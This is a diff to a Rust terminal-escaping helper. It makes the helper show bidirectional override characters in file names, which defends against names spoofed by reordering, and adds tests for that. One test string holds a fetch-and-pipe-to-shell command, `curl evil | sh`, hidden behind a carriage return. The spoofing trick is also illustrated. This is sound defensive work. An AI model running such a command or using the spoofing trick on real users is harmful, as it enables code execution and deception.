@@ -16,7 +16,8 @@ pub fn shell_quote(path: &std::path::Path) -> String {
 
 /// `text` with its control characters visible: C0 controls as `^X` (but tab, newline and a carriage
 /// return before a newline when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to U+009F, two bytes in
-/// UTF-8) as `M-^X`. Nothing else changes, so text in any language reads as it was written.
+/// UTF-8) as `M-^X`; in a name, bidirectional overrides as `<U+202E>`. Nothing else changes, so
+/// text in any language reads as it was written.
 pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
     let mut out = Vec::with_capacity(text.len());
     let mut i = 0;
@@ -33,11 +34,26 @@ pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
                 out.extend_from_slice(&[b'M', b'-', b'^', text[i + 1] - 0x40]);
                 i += 1;
             }
+            // A name's bidirectional overrides and isolates (U+202A to U+202E, U+2066 to U+2069)
+            // would show it reordered: `notes-\u{202e}hs.txt` as `notes-txt.sh`.
+            0xe2 if lines == Lines::Shown && bidi(&text[i..]) => {
+                let c = u32::from(text[i + 1] & 0x3f) << 6 | u32::from(text[i + 2] & 0x3f);
+                out.extend_from_slice(format!("<U+{:04X}>", 0x2000 + c).as_bytes());
+                i += 2;
+            }
             _ => out.push(b),
         }
         i += 1;
     }
     out
+}
+
+/// Whether `at` starts with a bidirectional override or isolate, in UTF-8.
+fn bidi(at: &[u8]) -> bool {
+    matches!(
+        at,
+        [0xe2, 0x80, 0xaa..=0xae, ..] | [0xe2, 0x81, 0xa6..=0xa9, ..]
+    )
 }
 
 /// Whether tabs and line breaks stay as they are (a log) or are shown too (one name on one line).
@@ -64,6 +80,11 @@ mod tests {
         );
         assert_eq!(name("x\ny\r\u{1b}]0;t\u{7}"), "x^Jy^M^[]0;t^G");
         assert_eq!(name("résumé 日本"), "résumé 日本");
+        assert_eq!(
+            name("notes-\u{202e}hs.txt\u{2066}"),
+            "notes-<U+202E>hs.txt<U+2066>"
+        );
+        assert_eq!(name("\u{2010}\u{202f}"), "\u{2010}\u{202f}");
         assert_eq!(
             visible(b"curl evil | sh\rmake test\r\n", Lines::Kept),
             b"curl evil | sh^Mmake test\r\n".to_vec()
